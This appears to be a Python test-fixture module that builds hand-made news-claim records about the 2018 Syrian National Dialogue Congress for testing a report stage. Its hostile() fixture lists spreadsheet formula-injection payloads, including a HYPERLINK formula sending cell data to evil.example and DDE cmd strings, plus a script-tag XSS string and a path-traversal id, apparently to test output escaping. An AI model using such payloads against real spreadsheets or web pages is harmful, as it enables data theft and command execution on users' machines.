"""Hand-built records for the report-stage tests (test_report, test_html, test_browser, ...).

They mirror the seeds' canonical case, built by hand so the report stage can be
tested without the upstream stages: four claims in two articles disagree on when
the Syrian National Dialogue Congress takes place (a time contradiction read as a
timeline), three agree it is in Sochi, two articles agree Syria has been at war
since 2011. Every offset is computed with ``str.index`` on the article text, so
``text[start:end]`` is always the reported string.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
from typing import Any

from crosscheck.records import (
    Article,
    ArticleResult,
    Claim,
    CrossReference,
    EventEntry,
    EventMention,
    Extraction,
    Finding,
    FindingValue,
    ManifestEntry,
    Place,
    Skipped,
    SpeakerEntry,
    TimeSpan,
)

CONGRESS = "Syrian National Dialogue Congress"

TEXT_000 = (
    " date 2018-12-19 Register\n"
    "US to Remain Engaged With Russia to Advance Syria Political Process - State Dept\n\n"
    "WASHINGTON (Sputnik) - The United States will continue to engage with Russia in order to "
    "advance the political process on Syria, US State Department Deputy Spokesperson Roberto "
    "Palladino told reporters.\n\n"
    "The creation of the committee, which is expected to draft Syria\u2019s new constitution, was "
    "first agreed upon during the Syrian National Dialogue Congress in the Russian resort city of "
    "Sochi in late January.\n"
)

TEXT_001 = (
    " date 2017-11-14 Register\n"
    "Syrian National Congress to Give Impetus to Geneva Process - Lavrov\n\n"
    "Th Syrian National Dialogue Congress was expected to take place in Russia in mid-November. "
    "At the same time, the eight round of intra-Syrian talks set to begin on November, 28.\n\n"
    "He informed de Mistura in detail of the Syrian national dialogue congress expected to be "
    "held in Russia's southern Black Sea resort of Sochi in December, adding that the congress "
    "could last a few days.\n\n"
    "The Syrian National Dialogue Congress was expected to take place in the Russian Black Sea "
    "resort city of Sochi in mid-November, however, it might take place in December, as a Syrian "
    "opposition source told Sputnik on Tuesday.\n"
)

TEXT_002 = (
    "US Deputy Secretary of State, De Mistura Discuss Next Steps in Syria Talks\n\n"
    "Syria has been mired in civil war since 2011, with numerous opposition factions fighting "
    "the Syrian Army.\n"
)

TEXT_004 = (
    "Russia, Turkey, Iran Agree on Syria Talks\n\n"
    "Since 2011, Syria has been engulfed in a civil war, with government forces fighting against "
    "numerous opposition and terrorist groups.\n"
)

D000 = dt.date(2018, 12, 19)
D001 = dt.date(2017, 11, 14)


def span(text: str, needle: str, after: int = 0) -> tuple[int, int]:
    start = text.index(needle, after)
    return start, start + len(needle)


def article(
    aid: str, text: str, published: dt.date | None, title: str, outlet: str = "Sputnik"
) -> Article:
    return Article(
        id=aid,
        text=text,
        title=title,
        outlet=outlet,
        published=published,
        date_source="header" if published else "unknown",
        source=f"seeds/{aid}.txt",
        view=text,
    )


def sentence_of(text: str, start: int, end: int) -> tuple[int, int]:
    """The sentence around [start, end): from after the previous '. '/newline to the next '.'."""
    s = max(text.rfind(". ", 0, start) + 2, text.rfind("\n", 0, start) + 1)
    e = text.index(".", end) + 1
    return s, e


def claim(
    cid: str,
    art: Article,
    content: str,
    *,
    after: int = 0,
    kind: str = "attributed",
    speaker: str = "",
    speaker_name: str = "",
    speaker_type: str = "",
    cue: str = "",
    quote: str = "indirect",
    times: tuple[tuple[str, str, str, str], ...] = (),
    places: tuple[str, ...] = (),
    events: tuple[str, ...] = (),
    sentence: tuple[int, int] | None = None,
) -> Claim:
    """A claim whose offsets are found in ``art.text``; times are (text, first, last, modifier)."""
    text = art.text
    cs, ce = span(text, content, after)
    ss, se = sentence if sentence else sentence_of(text, cs, ce)
    sp_start = sp_end = cue_start = cue_end = None
    if speaker:
        sp_start, sp_end = span(text, speaker, ss)
    if cue:
        cue_start, cue_end = span(text, cue, ss)
    spans = []
    for expr, first, last, modifier in times:
        ts, te = span(text, expr, ss)
        spans.append(
            TimeSpan(
                text=expr,
                start=ts,
                end=te,
                first=dt.date.fromisoformat(first),
                last=dt.date.fromisoformat(last),
                grain="month",
                modifier=modifier,
                resolved_by="header",
            )
        )
    place_recs = tuple(Place(p, *span(text, p, ss), name=p) for p in places)
    event_recs = []
    for ev in events:
        es, ee = span(text, ev, ss)
        event_recs.append(
            EventMention(ev, es, ee, head="congress", key="congress dialogue national syrian")
        )
    return Claim(
        claim_id=cid,
        article_id=art.id,
        kind=kind,  # type: ignore[arg-type]
        content_start=cs,
        content_end=ce,
        sentence_start=ss,
        sentence_end=se,
        content=content,
        sentence=text[ss:se],
        outlet=art.outlet,
        published=art.published,
        date_source=art.date_source,
        speaker=speaker or (art.outlet if kind == "narration" else ""),
        speaker_name=speaker_name or speaker or (art.outlet if kind == "narration" else ""),
        speaker_type=speaker_type or ("outlet" if kind == "narration" else "person"),  # type: ignore[arg-type]
        speaker_start=sp_start,
        speaker_end=sp_end,
        cue=cue,
        cue_start=cue_start,
        cue_end=cue_end,
        quote=quote if kind != "narration" else "none",  # type: ignore[arg-type]
        times=tuple(spans),
        places=place_recs,
        events=tuple(event_recs),
    )


def value(c: Claim, index: int = 0) -> FindingValue:
    t = c.times[index]
    return FindingValue(
        claim_id=c.claim_id,
        article_id=c.article_id,
        published=c.published,
        text=t.text,
        start=t.first.isoformat() if t.first else "",
        end=t.last.isoformat() if t.last else "",
        speaker=c.speaker_name,
    )


LATE_JANUARY = ("late January", "2018-01-21", "2018-01-31")


def build(a8_time: tuple[str, str, str] = LATE_JANUARY) -> tuple[Extraction, CrossReference]:
    """The fixture corpus: (Extraction, CrossReference).

    ``a8_time`` = (expression, first, last) replaces "late January" in article 000,
    as if the article had been edited (e.g. to "late March").
    """
    expr, first, last = a8_time
    a0 = article(
        "000_c210cf22f67a8342",
        TEXT_000.replace("late January", expr),
        D000,
        "US to Remain Engaged With Russia",
    )
    a1 = article("001_bd1163be5567cad4", TEXT_001, D001, "Syrian National Congress to Give Impetus")
    a2 = article("002_e50d7082d317dc9a", TEXT_002, None, "De Mistura Discuss Next Steps")
    a4 = article("004_705b38fdb8d6b74e", TEXT_004, None, "Russia, Turkey, Iran Agree")

    a2c = claim(
        "A2",
        a0,
        "The United States will continue to engage with Russia in order to advance the political process on Syria",
        speaker="Roberto Palladino",
        cue="told",
    )
    a8 = claim(
        "A8",
        a0,
        "was first agreed upon during the Syrian National Dialogue Congress in the Russian resort city of Sochi in "
        + expr,
        kind="narration",
        times=((expr, first, last, "late"),),
        places=("Sochi",),
        events=(CONGRESS,),
    )
    b2 = claim(
        "B2",
        a1,
        "Syrian National Dialogue Congress was expected to take place in Russia in mid-November",
        kind="narration",
        times=(("mid-November", "2017-11-11", "2017-11-20", "mid"),),
        events=(CONGRESS,),
    )
    b9 = claim(
        "B9",
        a1,
        "expected to be held in Russia's southern Black Sea resort of Sochi in December",
        speaker="He",
        speaker_name="Gennadiy Gatilov",
        cue="informed",
        times=(("December", "2017-12-01", "2017-12-31", ""),),
        places=("Sochi",),
        events=("Syrian national dialogue congress",),
    )
    ss14 = TEXT_001.index("The Syrian National Dialogue Congress was expected")
    b14 = claim(
        "B14",
        a1,
        "it might take place in December",
        speaker="a Syrian opposition source",
        speaker_name="Syrian opposition source",
        speaker_type="anonymous",
        cue="told",
        times=(
            ("mid-November", "2017-11-11", "2017-11-20", "mid"),
            ("December", "2017-12-01", "2017-12-31", ""),
        ),
        places=("Sochi",),
        events=(CONGRESS,),
        sentence=(ss14, TEXT_001.index("Tuesday.", ss14) + len("Tuesday.")),
    )
    c9 = claim("C9", a2, "Syria has been mired in civil war since 2011", kind="narration")
    e8 = claim("E8", a4, "Since 2011, Syria has been engulfed in a civil war", kind="narration")

    results = (
        ArticleResult(a0, 3, (a2c, a8)),
        ArticleResult(a1, 5, (b2, b9, b14)),
        ArticleResult(a2, 2, (c9,)),
        ArticleResult(a4, 2, (e8,)),
    )
    entries = [ManifestEntry(r.article.source, 0, "processed", r.article.id) for r in results]
    entries.append(
        ManifestEntry("seeds/broken.bin", 0, "skipped", "", "binary file", "not a text file")
    )
    manifest = tuple(sorted(entries, key=lambda m: (m.source, m.line, m.article_id)))
    extraction = Extraction(
        results=results,
        manifest=manifest,
        errors=(Skipped("seeds/broken.bin", 0, "binary file", "not a text file"),),
    )

    f1 = Finding(
        id="F-time-congress",
        relation="contradiction",
        slot="time",
        event=CONGRESS,
        claims=("B2", "B9", "B14", "A8"),
        values=(value(b2), value(b9), value(b14, 1), value(a8)),
        articles=(a1.id, a0.id),
        score=88.0,
        reason=f"the dates given do not overlap: mid-November 2017, December 2017, {expr} 2018",
        timeline="change over time",
    )
    f2 = Finding(
        id="F-place-congress",
        relation="agreement",
        slot="place",
        event=CONGRESS,
        claims=("B9", "B14", "A8"),
        values=tuple(
            FindingValue(
                c.claim_id, c.article_id, c.published, "Sochi", "Sochi", "Sochi", c.speaker_name
            )
            for c in (b9, b14, a8)
        ),
        articles=(a1.id, a0.id),
        score=100.0,
        reason="every claim that names a place for the congress says Sochi",
    )
    f3 = Finding(
        id="F-statement-war",
        relation="agreement",
        slot="statement",
        event="",
        claims=("C9", "E8"),
        values=tuple(
            FindingValue(c.claim_id, c.article_id, c.published, c.content, speaker=c.speaker_name)
            for c in (c9, e8)
        ),
        articles=(a2.id, a4.id),
        score=81.5,
        reason="the same statement in two articles",
        independent=False,
    )
    speakers = (
        SpeakerEntry(
            "Gennadiy Gatilov",
            "gatilov g",
            "person",
            ("Russian Deputy Foreign Minister",),
            ("He",),
            (a1.id,),
            ("B9",),
        ),
        SpeakerEntry(
            "Roberto Palladino",
            "palladino r",
            "person",
            ("Deputy Spokesperson",),
            ("Roberto Palladino",),
            (a0.id,),
            ("A2",),
        ),
        SpeakerEntry(
            "Sputnik",
            "sputnik",
            "outlet",
            (),
            ("Sputnik",),
            (a0.id, a1.id, a2.id, a4.id),
            ("A8", "B2", "C9", "E8"),
        ),
        SpeakerEntry(
            "Syrian opposition source",
            "syrian opposition source",
            "anonymous",
            (),
            ("a Syrian opposition source",),
            (a1.id,),
            ("B14",),
        ),
    )
    events = (
        EventEntry(
            CONGRESS,
            "congress dialogue national syrian",
            "congress",
            (CONGRESS, "Syrian national dialogue congress"),
            (a0.id, a1.id),
            ("A8", "B14", "B2", "B9"),
        ),
    )
    xref = CrossReference(
        speakers=speakers,
        events=events,
        findings=(f3, f1, f2),
        speaker_of={c.claim_id: c.speaker_name for r in results for c in r.claims},
        events_of={"A8": (CONGRESS,), "B2": (CONGRESS,), "B9": (CONGRESS,), "B14": (CONGRESS,)},
        pairs_compared=9,
    )
    return extraction, xref


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+1 for the deal",
    "@SUM(A1:A9)",
    "-2+3",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
    ' =cmd|" /C notepad"!A1',
    'line one\nline "two" =x',
    "<script>alert('x')</script> & <b>bold</b>",
]


def hostile() -> tuple[Extraction, CrossReference]:
    """A corpus whose claims start with formula triggers and carry HTML, with a nasty article id."""
    parts = ["Intro line.\n"]
    for h in HOSTILE:
        parts.append(f"\u201c{h}\u201d, the spokesman said.\n")
    text = "".join(parts)
    art = article("../../etc/x <b>", text, D000, '<i>Hostile</i> "title"', outlet="=Outlet")
    claims = []
    pos = 0
    for i, h in enumerate(HOSTILE):
        cs = text.index(h, pos)
        ce = cs + len(h)
        pos = ce
        ss = text.rfind("\n", 0, cs) + 1
        se = text.index("\n", ce)
        sp = text.index("the spokesman", ce)
        claims.append(
            Claim(
                claim_id=f"H{i}",
                article_id=art.id,
                kind="attributed",
                content_start=cs,
                content_end=ce,
                sentence_start=ss,
                sentence_end=se,
                content=h,
                sentence=text[ss:se],
                outlet=art.outlet,
                published=art.published,
                speaker="the spokesman",
                speaker_name="@spokesman",
                speaker_start=sp,
                speaker_end=sp + len("the spokesman"),
                cue="said",
                quote="direct",
            )
        )
    results = (ArticleResult(art, len(HOSTILE) + 1, tuple(claims)),)
    manifest = (ManifestEntry(art.source, 0, "processed", art.id, "=warning"),)
    f = Finding(
        id="=F1",
        relation="contradiction",
        slot="polarity",
        event="<Event> & co",
        claims=("H0", "H1"),
        values=(
            FindingValue("H0", art.id, art.published, HOSTILE[0], speaker="@spokesman"),
            FindingValue("H1", art.id, art.published, HOSTILE[1], speaker="@spokesman"),
        ),
        articles=(art.id,),
        score=50.0,
        reason="<b>not</b> the same",
    )
    xref = CrossReference(speakers=(), events=(), findings=(f,), pairs_compared=1)
    return Extraction(results=results, manifest=manifest), xref


def shuffled(extraction: Extraction, xref: CrossReference) -> tuple[Extraction, CrossReference]:
    """The same corpus with every sequence reversed (input-order independence)."""
    results = tuple(
        dataclasses.replace(r, claims=tuple(reversed(r.claims)))
        for r in reversed(extraction.results)
    )
    ex = dataclasses.replace(
        extraction, results=results, manifest=tuple(reversed(extraction.manifest))
    )
    x = dataclasses.replace(
        xref,
        speakers=tuple(reversed(xref.speakers)),
        events=tuple(reversed(xref.events)),
        findings=tuple(reversed(xref.findings)),
        speaker_of=dict(reversed(list(xref.speaker_of.items()))),
    )
    return ex, x


def texts_of(extraction: Extraction) -> dict[str, Any]:
    return {r.article.id: r.article.text for r in extraction.results}
